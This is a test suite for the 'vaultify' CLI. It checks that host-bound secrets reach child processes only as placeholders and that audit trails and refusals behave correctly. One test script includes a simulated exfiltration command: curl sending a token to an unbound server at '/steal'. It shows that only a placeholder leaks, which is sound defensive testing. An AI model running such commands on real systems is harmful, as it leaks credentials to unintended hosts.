import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import type { AuditRecord } from '../../src/core/audit';
import { CertificateAuthority } from '../../src/core/secretless';
import { TEAM_HOSTS_KEY, TeamFile, generateAgeIdentity, recipientOf } from '../../src/core/sops';
import { type CliRun, runCli } from '../support/cliProcess';
import { fakeGitHubToken } from '../support/fakeCredentials';
import { type TestServer, leafOptions, startEchoServer, startGitServer } from '../support/wireServers';

/**
 * `vaultify run` and `vaultify sops exec` with team values bound to hosts: the CLI runs the
 * injecting proxy for its child, and real curl and git talk to local HTTPS servers with their own
 * CA (trusted through the CLI process's NODE_EXTRA_CA_CERTS). Judged by what can be recovered:
 * what the bound server received, the child's environment and output, an unbound server.
 */
describe('vaultify run and sops exec: secretless team values', function () {
  // Each test starts node, curl and git processes; generous on a loaded machine, never a speed check.
  this.timeout(120_000);
  const token = fakeGitHubToken();
  let dir: string;
  let env: NodeJS.ProcessEnv;
  let bound: TestServer;
  let unbound: TestServer;
  let git: TestServer;
  let identity: string;
  let recipient: string;

  const writeTeamFile = async (name: string): Promise<void> => {
    const created = await TeamFile.create(name, [recipient], [identity], { 'gh/token': token, 'db/password': 'FAKE-db-password' });
    writeFileSync(path.join(dir, name), created.text);
  };
  const cli = (args: string[]): Promise<CliRun> => runCli(args, { cwd: dir, env });
  const assertNoValue = (text: string, where: string): void => assert.ok(!text.includes(token), `the value reached ${where}`);

  before(async () => {
    dir = mkdtempSync(path.join(tmpdir(), 'vaultify-cli-secretless-'));
    const serverCa = await CertificateAuthority.create('Test upstream CA');
    writeFileSync(path.join(dir, 'upstream-ca.pem'), serverCa.certificatePem);
    bound = await startEchoServer(leafOptions(serverCa));
    unbound = await startEchoServer(leafOptions(serverCa));
    const repos = path.join(dir, 'repos');
    mkdirSync(repos);
    execFileSync('git', ['init', '-q', '--bare', '-b', 'main', path.join(repos, 'app.git')]);
    git = await startGitServer(leafOptions(serverCa), repos, 'x-access-token', token);

    identity = await generateAgeIdentity();
    recipient = await recipientOf(identity);
    writeFileSync(path.join(dir, '.sops.yaml'), `creation_rules:\n  - path_regex: team\\.yaml$\n    age: ${recipient}\n`);
    await writeTeamFile('team.yaml');
    writeFileSync(path.join(dir, '.env'), 'GH_TOKEN=vault:gh/token\nDB_PASSWORD=vault:db/password\n');
    const runtime = path.join(dir, 'runtime');
    mkdirSync(runtime, { mode: 0o700 });
    env = {
      PATH: process.env.PATH,
      HOME: dir,
      XDG_CONFIG_HOME: path.join(dir, 'xdg'),
      XDG_RUNTIME_DIR: runtime,
      SOPS_AGE_KEY: identity,
      NODE_EXTRA_CA_CERTS: path.join(dir, 'upstream-ca.pem'),
      GIT_CONFIG_NOSYSTEM: '1',
    };
    // Every test runs on its own (`--grep`): the team file's value is bound here, not by the first test.
    const bind = await cli(['sops', 'hosts', 'team.yaml', 'gh/token', `localhost:${bound.port}`, `localhost:${git.port}`]);
    assert.equal(bind.code, 0, bind.stderr);
  });

  after(async () => {
    await Promise.all([bound.close(), unbound.close(), git.close()]);
    rmSync(dir, { recursive: true, force: true });
  });

  it('sops hosts binds a value in the team file, lists where each goes, and refuses what is not a host', async () => {
    await writeTeamFile('fresh-team.yaml');
    const set = await cli(['sops', 'hosts', 'fresh-team.yaml', 'gh/token', `localhost:${bound.port}`, `localhost:${git.port}`]);
    assert.equal(set.code, 0, set.stderr);
    assert.equal(set.stdout.trim(), `fresh-team.yaml: gh/token: only on the wire to localhost:${bound.port}, localhost:${git.port}`);
    const text = readFileSync(path.join(dir, 'fresh-team.yaml'), 'utf8');
    assert.match(text, new RegExp(`^${TEAM_HOSTS_KEY}: ENC\\[`, 'm'));
    assert.ok(!text.includes('localhost'), 'the hosts are encrypted with the values');
    const list = await cli(['sops', 'hosts', 'fresh-team.yaml']);
    assert.equal(list.code, 0, list.stderr);
    assert.match(list.stdout, new RegExp(`^gh/token: only on the wire to localhost:${bound.port}, localhost:${git.port}$`, 'm'));
    assert.match(list.stdout, /^db\/password: in the process environment$/m);
    const check = await cli(['sops', 'check', 'fresh-team.yaml']);
    assert.equal(check.code, 0, check.stderr);
    const bad = await cli(['sops', 'hosts', 'fresh-team.yaml', 'gh/token', 'localhost']);
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /this machine: name the one port/);
    assert.equal((await cli(['sops', 'hosts', 'fresh-team.yaml', 'nope', 'api.github.com'])).code, 2);
  });

  it('run: curl sends the value to the bound host only; the environment, the output and an unbound host hold the placeholder', async () => {
    const before = bound.received.length;
    const script = [
      `curl -sS -H "authorization: Bearer $GH_TOKEN" "https://localhost:${bound.port}/api?t=$GH_TOKEN"`,
      'echo',
      `curl -sS "https://localhost:${unbound.port}/steal?t=$GH_TOKEN"`,
      'echo',
      'env',
      'printf "%s" "$GH_TOKEN" | rev',
    ].join('; ');
    const run = await cli(['run', '--env-file', '.env', '--', 'sh', '-c', script]);
    assert.equal(run.code, 0, run.stderr);
    const received = bound.received.slice(before);
    assert.equal(received[0].headers.authorization, `Bearer ${token}`, 'the bound host receives the value');
    assert.equal(new URL(received[0].url, 'https://x').searchParams.get('t'), token);
    const placeholder = /^GH_TOKEN=(.+)$/m.exec(run.stdout)?.[1] ?? '';
    assert.match(placeholder, /^ghp_[A-Za-z0-9]{36}$/, 'the child holds a token-shaped placeholder');
    assert.notEqual(placeholder, token);
    assert.ok(run.stdout.includes(`Bearer ${placeholder}`), 'the echo comes back with the placeholder');
    assert.match(run.stdout, /^DB_PASSWORD=\[masked vault:db\/password\]$/m, 'a value without hosts keeps environment delivery, masked');
    assert.match(run.stdout, /^HTTPS_PROXY=http:\/\/run-/m);
    assertNoValue(run.stdout + run.stderr, 'the output');
    assertNoValue(unbound.allReceived(), 'an unbound server');
    assert.ok(unbound.allReceived().includes(placeholder), 'the unbound server got only the placeholder');
    assert.match(run.stderr, /gh\/token: a placeholder; the value only on the wire to localhost:/);
  });

  it('sops exec: git clones and pushes through the credential helper with no token typed, and holds only the placeholder', async () => {
    const work = path.join(dir, 'work');
    const script = [
      `git clone -q https://localhost:${git.port}/app.git ${work}`,
      `cd ${work}`,
      'git -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m first',
      'git push -q origin HEAD:main',
      'echo "held=$gh_token"',
    ].join(' && ');
    const run = await cli(['sops', 'exec', 'team.yaml', '--', 'sh', '-c', script]);
    assert.equal(run.code, 0, run.stderr);
    assert.ok(existsSync(path.join(work, '.git')));
    assert.match(execFileSync('git', ['-C', path.join(dir, 'repos', 'app.git'), 'log', '--format=%s', 'main']).toString(), /first/);
    assert.match(run.stdout, /^held=ghp_[A-Za-z0-9]{36}$/m);
    assertNoValue(run.stdout + run.stderr, 'the output');
    assertNoValue(readFileSync(path.join(work, '.git', 'config'), 'utf8'), "the clone's config");
  });

  /** Runs `args` with the folder's `vaultify.secretless.allowedHosts` set to `allowed`, then removes the settings. */
  const cliAllowing = async (allowed: string[], args: string[]): Promise<CliRun> => {
    const settings = path.join(dir, '.vscode');
    mkdirSync(settings);
    writeFileSync(path.join(settings, 'settings.json'), JSON.stringify({ 'vaultify.secretless.allowedHosts': allowed }));
    try {
      return await cli(args);
    } finally {
      rmSync(settings, { recursive: true, force: true });
    }
  };

  it("run: the workspace's allowed hosts narrow a bound value, and a host it leaves out gets only the placeholder", async () => {
    const before = bound.received.length;
    const script = `curl -sS -H "authorization: Bearer $GH_TOKEN" "https://localhost:${bound.port}/api"; echo; echo "held=$GH_TOKEN"`;
    const run = await cliAllowing([`localhost:${git.port}`], ['run', '--env-file', '.env', '--', 'sh', '-c', script]);
    assert.equal(run.code, 0, run.stderr);
    const placeholder = /^held=(ghp_[A-Za-z0-9]{36})$/m.exec(run.stdout)?.[1];
    assert.ok(placeholder, `the child holds a placeholder: ${run.stdout}`);
    const received = bound.received.slice(before);
    assert.equal(received[0]?.headers.authorization, `Bearer ${placeholder}`, 'a host the workspace left out gets the placeholder');
    assertNoValue(JSON.stringify(received), 'a host the workspace left out');
    assertNoValue(run.stdout + run.stderr, 'the output');
    assert.match(
      run.stderr,
      new RegExp(`gh/token: hosts narrowed by "vaultify.secretless.allowedHosts" of this workspace to localhost:${git.port}$`, 'm'),
    );
    assert.match(run.stderr, new RegExp(`gh/token: a placeholder; the value only on the wire to localhost:${git.port}$`, 'm'));
  });

  it('sops exec: a bound value the workspace leaves with no host refuses the run, naming it, and runs nothing', async () => {
    const marker = path.join(dir, 'ran');
    const run = await cliAllowing([`localhost:${unbound.port}`], ['sops', 'exec', 'team.yaml', '--', 'sh', '-c', `touch ${marker}`]);
    assert.equal(run.code, 2, run.stderr);
    assert.match(run.stderr, /"gh\/token" is bound only to hosts outside "vaultify.secretless.allowedHosts" of this workspace/);
    assert.match(run.stderr, /Nothing was released\.$/m);
    assert.ok(!existsSync(marker), 'the command did not run');
    assertNoValue(run.stdout + run.stderr, 'the output');
  });

  it("run: the CLI's audit trail holds the release and each swapped exchange, verifies against the printed head, and holds no value or placeholder", async () => {
    const script = [
      `curl -sS -H "authorization: Bearer $GH_TOKEN" "https://localhost:${bound.port}/api/one?t=$GH_TOKEN"`,
      `curl -sS -H "authorization: Bearer $GH_TOKEN" "https://localhost:${bound.port}/api/two?t=$GH_TOKEN"`,
      'echo',
      'echo "held=$GH_TOKEN"',
    ].join('; ');
    const run = await cli(['run', '--env-file', '.env', '--', 'sh', '-c', script]);
    assert.equal(run.code, 0, run.stderr);
    const placeholder = /^held=(ghp_[A-Za-z0-9]{36})$/m.exec(run.stdout)?.[1];
    assert.ok(placeholder, `the child holds a placeholder: ${run.stdout}`);
    const printed = /vaultify audit verify --head ([0-9a-f]{64}) (.+)$/m.exec(run.stderr);
    assert.ok(printed, `the run names the trail and its head: ${run.stderr}`);
    const [, head, trail] = printed;
    assert.equal(trail, path.join(dir, '.local', 'state', 'vaultify', 'cli-audit'), 'the trail is in the per-user state folder');

    const verified = await cli(['audit', 'verify', '--head', head, trail]);
    assert.equal(verified.code, 0, verified.stdout + verified.stderr);
    assert.match(verified.stdout, /^intact: \d+ records up to the head you gave$/m);

    const bytes = readdirSync(trail)
      .filter((f) => f.endsWith('.jsonl'))
      .map((f) => readFileSync(path.join(trail, f), 'utf8'))
      .join('');
    assertNoValue(bytes, 'the audit trail');
    assert.ok(!bytes.includes(placeholder), 'the placeholder reached the audit trail');
    const records = bytes
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as AuditRecord);
    const wires = records.filter((r) => r.event === 'wire' && r.wire?.path.startsWith('/api/'));
    assert.equal(wires.length, 2, 'one wire record per swapped exchange');
    assert.deepEqual(
      wires.map((r) => ({ ...r.wire, run: undefined, secrets: r.secrets.map((s) => s.name) })),
      ['/api/one', '/api/two'].map((p) => ({
        run: undefined,
        host: `localhost:${bound.port}`,
        method: 'GET',
        path: p,
        count: 2,
        // The echo server sends back the header and the URL (twice): each comes back a placeholder.
        scrubbed: 3,
        secrets: ['gh/token'],
      })),
    );
    assert.equal(wires[0].wire?.run, wires[1].wire?.run, 'both exchanges are one run');
    const release = records.filter((r) => r.event === 'release' && r.seq < wires[0].seq).pop();
    assert.deepEqual(
      release?.secrets.map(({ name, delivery }) => ({ name, delivery })),
      [
        { name: 'gh/token', delivery: `only on the wire to localhost:${bound.port}, localhost:${git.port}` },
        { name: 'db/password', delivery: 'in the process environment' },
      ],
    );
    assert.deepEqual(release?.requester, { kind: 'cli', label: 'vaultify run' });
    const end = records[records.length - 1];
    assert.equal(end.event, 'session');
    assert.equal(end.exitCode, 0);
    assert.equal(end.hash, head, 'the printed head is the last record');
    assert.equal(statSync(path.join(dir, '.local', 'state', 'vaultify', 'cli-audit.key')).mode & 0o777, 0o600);
  });

  it('run: a release the audit trail cannot record runs nothing (a trail that does not end in an intact record)', async () => {
    const state = path.join(dir, 'broken-state');
    const trail = path.join(state, 'vaultify', 'cli-audit');
    mkdirSync(trail, { recursive: true, mode: 0o700 });
    writeFileSync(path.join(trail, 'audit-000001.jsonl'), '{"seq":1,"not":"a record"}\n');
    const marker = path.join(dir, 'ran-unrecorded');
    const run = await runCli(['run', '--env-file', '.env', '--', 'sh', '-c', `touch ${marker}`], {
      cwd: dir,
      env: { ...env, XDG_STATE_HOME: state },
    });
    assert.equal(run.code, 2, run.stderr);
    assert.match(run.stderr, /does not end in an intact record.*Nothing was released\.$/m);
    assert.ok(!existsSync(marker), 'the command did not run');
  });

  /** Runs `args` with a `.vscode/settings.json` that is not valid JSON (a missing comma on line 3). */
  const cliWithBrokenSettings = async (args: string[]): Promise<CliRun> => {
    const settings = path.join(dir, '.vscode');
    mkdirSync(settings);
    writeFileSync(
      path.join(settings, 'settings.json'),
      `{\n  "vaultify.secretless.allowedHosts": ["localhost:${bound.port}"]\n  "editor.tabSize": 2\n}\n`,
    );
    try {
      return await cli(args);
    } finally {
      rmSync(settings, { recursive: true, force: true });
    }
  };

  it('sops exec: a settings file that is not valid JSON refuses a bound value, naming the file, line and column, and runs nothing', async () => {
    const marker = path.join(dir, 'ran-broken-settings');
    const run = await cliWithBrokenSettings(['sops', 'exec', 'team.yaml', '--', 'sh', '-c', `touch ${marker}`]);
    assert.equal(run.code, 2, run.stderr);
    assert.match(
      run.stderr,
      /^vaultify: \.vscode\/settings\.json:3:3: comma expected: the settings file is not valid JSON, so its "vaultify\.secretless\.allowedHosts" cannot narrow gh\/token\. Nothing was run\. Fix the file/m,
    );
    assert.ok(!existsSync(marker), 'the command did not run');
  });

  it('run: a settings file that is not valid JSON refuses to resolve team values, naming the file, line and column, and runs nothing', async () => {
    const marker = path.join(dir, 'ran-broken-settings');
    const run = await cliWithBrokenSettings(['run', '--env-file', '.env', '--', 'sh', '-c', `touch ${marker}`]);
    assert.equal(run.code, 2, run.stderr);
    assert.match(
      run.stderr,
      /^vaultify: \.vscode\/settings\.json:3:3: comma expected: the settings file is not valid JSON, so the team files it names \(vaultify\.team\.files\) are unknown\. Nothing was run\./m,
    );
    assert.ok(!existsSync(marker), 'the command did not run');
  });

  it('run --help and sops --help say what a bound value becomes in the child, that the folder narrows its hosts, and where runs are recorded', async () => {
    for (const args of [
      ['run', '--help'],
      ['sops', '--help'],
    ]) {
      const help = await cli(args);
      assert.equal(help.code, 0, help.stderr);
      const text = help.stdout.replace(/\s+/g, ' ');
      assert.match(
        text,
        /reaches COMMAND as a placeholder of the same shape; the real value exists only on the wire to those hosts/,
        args[0],
      );
      assert.match(text, /a loopback proxy vaultify runs for COMMAND/, args[0]);
      assert.match(
        text,
        /vaultify\.secretless\.allowedHosts in the folder's \.vscode\/settings\.json narrows those hosts \(never widens them\)/,
        args[0],
      );
      assert.match(text, /not valid JSON/, args[0]);
      assert.match(text, /audit trail \$XDG_STATE_HOME\/vaultify\/cli-audit/, args[0]);
    }
  });

  it('leaves only certificates behind while it runs, 0600 in the 0700 folder, and removes them after', async () => {
    const folder = path.join(dir, 'runtime', 'vaultify');
    const run = await cli(['run', '--env-file', '.env', '--', 'sh', '-c', 'cat "$SSL_CERT_FILE"; ls -l "$SSL_CERT_FILE"']);
    assert.equal(run.code, 0, run.stderr);
    assert.match(run.stdout, /-----BEGIN CERTIFICATE-----/);
    assert.ok(!/PRIVATE KEY/.test(run.stdout), 'no key in the trust bundle');
    assert.match(run.stdout, /^-rw------- /m);
    assert.equal(statSync(folder).mode & 0o777, 0o700);
    assert.deepEqual(
      readdirSync(folder).filter((f) => f.startsWith('trust-')),
      [],
      'the trust bundle is removed when the child ends',
    );
  });
});
